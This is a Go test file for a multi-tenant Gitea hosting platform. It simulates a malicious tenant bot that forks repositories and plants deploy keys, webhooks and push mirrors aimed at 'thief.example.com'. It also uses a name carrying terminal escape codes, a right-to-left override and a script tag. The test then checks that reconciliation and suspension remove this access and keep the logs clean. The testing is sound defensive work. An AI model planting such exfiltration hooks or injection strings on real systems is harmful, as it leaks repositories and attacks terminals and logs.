package tenancy_test

import (
	"encoding/json"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/vibnai/vibn-mcp/gitea/giteatest"
	"github.com/vibnai/vibn-mcp/mcp"
	"github.com/vibnai/vibn-mcp/repository"
	"github.com/vibnai/vibn-mcp/secret"
	"github.com/vibnai/vibn-mcp/tenancy"
	"github.com/vibnai/vibn-mcp/tenancy/tenancytest"
)

// hostile is a name that a terminal would obey.
const hostile = "key\x1b[2J\x1b]0;owned\x07\u202e<script>"

// TestMischief does with a bot's own token all that a bot can do to outlive it,
// and all that Gitea lets people do to a repository. Reconcile takes it away, with
// an entry for each, and a suspension leaves no way in.
func TestMischief(t *testing.T) {
	t.Parallel()
	tenancytest.NeedGit(t)
	for _, b := range everywhere {
		t.Run(string(b), func(t *testing.T) {
			t.Parallel()
			m := newMischief(t, b)
			m.fork()
			m.workflow()
			theirs := m.theirs()
			must(t, m.Operator.Provision(t.Context(), m.A.Workspace))
			m.job()
			m.wantTakenAway()
			if diff := cmp.Diff(theirs, m.theirs()); diff != "" {
				t.Errorf("the other tenant's (-before +after)\n%s", diff)
			}
			m.suspend()
			for _, v := range m.Git.Violations() {
				t.Errorf("simulator: %s", v)
			}
		})
	}
}

// A mischief is a tenant who means harm, with another who does not.
type mischief struct {
	closed bool // a bot may not fork into its organisation
	t      *testing.T
	*tenancytest.House
	root  *url.URL
	creds repository.GitCredentials // of A's key
	key   string                    // a deploy key that somebody smuggled in
}

func newMischief(t *testing.T, b giteatest.Behaviour) *mischief {
	t.Helper()
	h := tenancytest.New(t, tenancytest.Config{GiteaServer: giteatest.Config{Behaviour: b}})
	m := &mischief{t: t, House: h, key: publicKey(t), closed: b == giteatest.V127 || b == giteatest.Forgejo}
	var err error
	m.root, err = url.Parse(h.GitURL)
	must(t, err)
	owner := h.Git.AddUser(giteatest.User{Login: "person", Password: "a password of a person"})
	must(t, h.DB.SetMember(t.Context(), tenancy.Member{WorkspaceID: h.A.ID, UserID: "user-alpha", Role: tenancy.RoleOwner, GiteaUserID: int64(owner.ID)}))
	m.job()
	h.AddRepository(t, h.A, "site")
	h.AddRepository(t, h.B, "theirs")
	m.creds, err = repository.Credentials(t.Context(), h.Open(t, h.A.Key, tenancy.Git), true)
	must(t, err)
	return m
}

// job runs the jobs of A's workspace.
func (m *mischief) job() {
	m.t.Helper()
	if err := m.Provisioner.Provision(m.t.Context(), m.A.ID); err != nil {
		is, _ := m.Operator.Parts(m.t.Context(), m.A.Workspace)
		m.t.Fatalf("%v\n%s", err, is.ProvisionError)
	}
}

// bot asks with the bot's token, and is to be answered so.
func (m *mischief) bot(want int, method, path string, body map[string]any) {
	m.t.Helper()
	raw, err := json.Marshal(body)
	must(m.t, err)
	if got := asBot(m.t, m.root, m.creds.Token, method, path, string(raw)); got != want {
		m.t.Errorf("%s %s as the bot: %d, want %d", method, path, got, want)
	}
}

// fork makes forks, of which the bot is an administrator, and doors into them.
func (m *mischief) fork() {
	m.t.Helper()
	org, bot := m.A.GiteaOrg, m.A.GiteaBot
	m.bot(http.StatusForbidden, "POST", "/repos/"+org+"/site/keys", map[string]any{"title": "k", "key": publicKey(m.t), "read_only": false})
	m.bot(http.StatusForbidden, "POST", "/user/repos", map[string]any{"name": "mine"})
	inside := map[string]any{"organization": org, "name": "evil"}
	if m.closed { // what an older server let a bot do may be there still
		m.bot(http.StatusForbidden, "POST", "/repos/"+org+"/site/forks", inside)
		_, err := m.Git.AddFork(org+"/site", org, "evil", bot)
		must(m.t, err)
	} else {
		m.bot(http.StatusAccepted, "POST", "/repos/"+org+"/site/forks", inside)
	}
	m.bot(http.StatusAccepted, "POST", "/repos/"+org+"/site/forks", map[string]any{"name": "mine"})
	for _, repo := range []string{org + "/evil", bot + "/mine"} {
		m.bot(http.StatusCreated, "POST", "/repos/"+repo+"/keys", map[string]any{"title": hostile, "key": publicKey(m.t), "read_only": false})
		m.bot(http.StatusCreated, "POST", "/repos/"+repo+"/hooks", map[string]any{
			"type": "gitea", "active": true, "config": map[string]string{"url": "https://thief.example.com/?t=1", "content_type": "json"},
		})
		m.bot(http.StatusNoContent, "PUT", "/repos/"+repo+"/collaborators/"+m.B.GiteaBot, map[string]any{"permission": "admin"})
		m.bot(http.StatusOK, "POST", "/repos/"+repo+"/push_mirrors", map[string]any{
			"remote_address": "https://thief.example.com/evil.git", "interval": "8h", "sync_on_commit": true,
		})
	}
	// A bot may have been an administrator of this one, as the operator erred once.
	m.Git.AddDeployKey(org+"/site", giteatest.DeployKey{Title: hostile, Key: m.key})
	m.Git.AddCollaborator(org+"/site", m.B.GiteaBot, "write")
	m.Git.AddHook(org+"/site", giteatest.Hook{URL: "https://user:hunter2@thief.example.com/" + hostile})
	m.Git.AddMirror(org+"/site", giteatest.Mirror{Address: "https://thief.example.com/" + hostile})
	m.Git.SetRepo(org+"/site", func(r *giteatest.Repo) { r.Private = false })
}

// workflow pushes what a runner would run.
func (m *mischief) workflow() {
	m.t.Helper()
	dir := gitClone(m.t, m.root.String()+"/"+m.A.GiteaOrg+"/site.git", m.creds)
	must(m.t, os.MkdirAll(dir+"/.gitea/workflows", 0o700))
	must(m.t, gitPush(m.t, dir, ".gitea/workflows/run.yml"))
	m.Git.SetRepo(m.A.GiteaOrg+"/site", func(r *giteatest.Repo) { r.NoActions = false })
}

// theirs is all that the other tenant has on Gitea.
func (m *mischief) theirs() giteatest.State {
	s := m.Git.Snapshot()
	s.Orgs = slices.DeleteFunc(s.Orgs, func(o giteatest.Org) bool { return o.Name != m.B.GiteaOrg })
	s.Users = slices.DeleteFunc(s.Users, func(u giteatest.User) bool { return u.Login != m.B.GiteaBot })
	s.Tokens = slices.DeleteFunc(s.Tokens, func(t giteatest.Token) bool { return t.User != m.B.GiteaBot })
	s.Repos = slices.DeleteFunc(s.Repos, func(r giteatest.Repo) bool { return r.Owner != m.B.GiteaOrg })
	return s
}

func (m *mischief) wantTakenAway() {
	m.t.Helper()
	for _, r := range m.Git.Snapshot().Repos {
		if r.Owner == m.B.GiteaOrg {
			continue
		}
		want := giteatest.Repo{
			ID: r.ID, Owner: m.A.GiteaOrg, Name: "site", Description: r.Description, DefaultBranch: "main", Private: true, NoActions: true,
			Collaborators: map[string]string{}, Heads: r.Heads,
		}
		if diff := cmp.Diff(want, r); diff != "" {
			m.t.Errorf("a repository (-want +got)\n%s", diff)
		}
	}
	if m.Git.Head(m.A.GiteaOrg+"/site", "main") == "" {
		m.t.Error("the repository has lost its commits")
	}
	if err := m.Git.SSHPush(m.key, m.A.GiteaOrg+"/site"); err == nil {
		m.t.Error("the deploy key still pushes")
	}
	m.wantShown()
}

// wantShown holds what the tenant, and the log, are told of it.
func (m *mischief) wantShown() {
	m.t.Helper()
	raw, err := mcp.New(m.Logger).Call(m.t.Context(), m.Open(m.t, m.A.Key, tenancy.Read), mcp.Request{
		Tool: "activity.list", Args: json.RawMessage(`{"tool":"platform.reconcile","limit":50}`),
	})
	must(m.t, err)
	var shown struct {
		Entries []struct {
			Principal, Outcome string
			Args               struct{ Removed, Name string }
		}
	}
	must(m.t, json.Unmarshal(raw, &shown))
	var removed []string
	for _, e := range shown.Entries {
		removed = append(removed, e.Args.Removed)
		if e.Principal != tenancy.PlatformPrincipal || e.Outcome != "ok" || strings.ContainsFunc(e.Args.Name, func(r rune) bool { return r < ' ' || r == '\u202e' }) {
			m.t.Errorf("an entry: %+v", e)
		}
	}
	slices.Sort(removed)
	want := []string{"collaborator", "deploy_key", "fork", "hook", "public visibility or Actions", "push_mirror", "repository of the bot's own"}
	if diff := cmp.Diff(want, removed); diff != "" {
		m.t.Errorf("shown as removed (-want +got)\n%s", diff)
	}
	for _, text := range []string{string(raw), m.Log.String()} {
		if strings.Contains(text, "hunter2") || strings.ContainsAny(text, "\x1b\x07\u202e") {
			m.t.Errorf("the activity or the log repeats what was written to harm: %q", text)
		}
	}
}

// A way in is a credential that pushes.
type wayIn struct {
	name  string
	login string
	token secret.Text
}

// suspend holds that whatever pushes does not after a suspension, and that what a
// key had does not come back.
func (m *mischief) suspend() {
	m.t.Helper()
	ctx, repo := m.t.Context(), m.A.GiteaOrg+"/site"
	person, err := m.Guard.OpenMember(ctx, "user-alpha", m.A.Slug, time.Now())
	must(m.t, err)
	own, err := repository.Credentials(ctx, person, true)
	must(m.t, err)
	ways := []wayIn{
		{"the key's token", m.creds.Username, m.creds.Token},
		{"the workspace's token", own.Username, own.Token},
		{"a person's token", "person", secret.NewText(m.Git.AddToken("person", "write:repository"))},
		{"a person's password", "person", secret.NewText("a password of a person")},
	}
	dirs := map[string]string{}
	for _, w := range ways {
		dirs[w.name] = gitClone(m.t, m.root.String()+"/"+repo+".git", repository.GitCredentials{Username: w.login, Token: w.token})
		must(m.t, git(m.t, dirs[w.name], "pull", "-q"))
		must(m.t, gitPush(m.t, dirs[w.name], strings.ReplaceAll(w.name, " ", "-")))
	}
	m.Git.AddDeployKey(repo, giteatest.DeployKey{Title: "late", Key: m.key})
	must(m.t, m.Git.SSHPush(m.key, repo))

	must(m.t, m.Operator.Suspend(ctx, m.A.Workspace))
	m.job()
	head := m.Git.Head(repo, "main")
	for _, w := range ways {
		if err := gitPush(m.t, dirs[w.name], "after"); err == nil {
			m.t.Errorf("%s pushes after the suspension", w.name)
		}
		if err := git(m.t, dirs[w.name], "fetch", "-q"); err == nil {
			m.t.Errorf("%s fetches after the suspension", w.name)
		}
	}
	if err := m.Git.SSHPush(m.key, repo); err == nil {
		m.t.Error("a deploy key pushes after the suspension")
	}
	if _, err := m.Guard.OpenKey(ctx, m.A.Key); codeOf(err) != tenancy.Forbidden {
		m.t.Errorf("a key after the suspension: %v", err)
	}
	if now := m.Git.Head(repo, "main"); now != head {
		m.t.Errorf("main is at %s, was at %s", now, head)
	}

	must(m.t, m.Operator.Resume(ctx, m.A.Workspace))
	m.job()
	for _, w := range ways[:1] {
		if err := git(m.t, dirs[w.name], "fetch", "-q"); err == nil {
			m.t.Errorf("%s is alive again after the suspension", w.name)
		}
	}
	if err := m.Git.SSHPush(m.key, repo); err == nil {
		m.t.Error("a deploy key is back after the suspension")
	}
	again, err := repository.Credentials(ctx, m.Open(m.t, m.A.Key, tenancy.Git), true)
	must(m.t, err)
	dir := gitClone(m.t, m.root.String()+"/"+repo+".git", again)
	must(m.t, gitPush(m.t, dir, "again"))
}
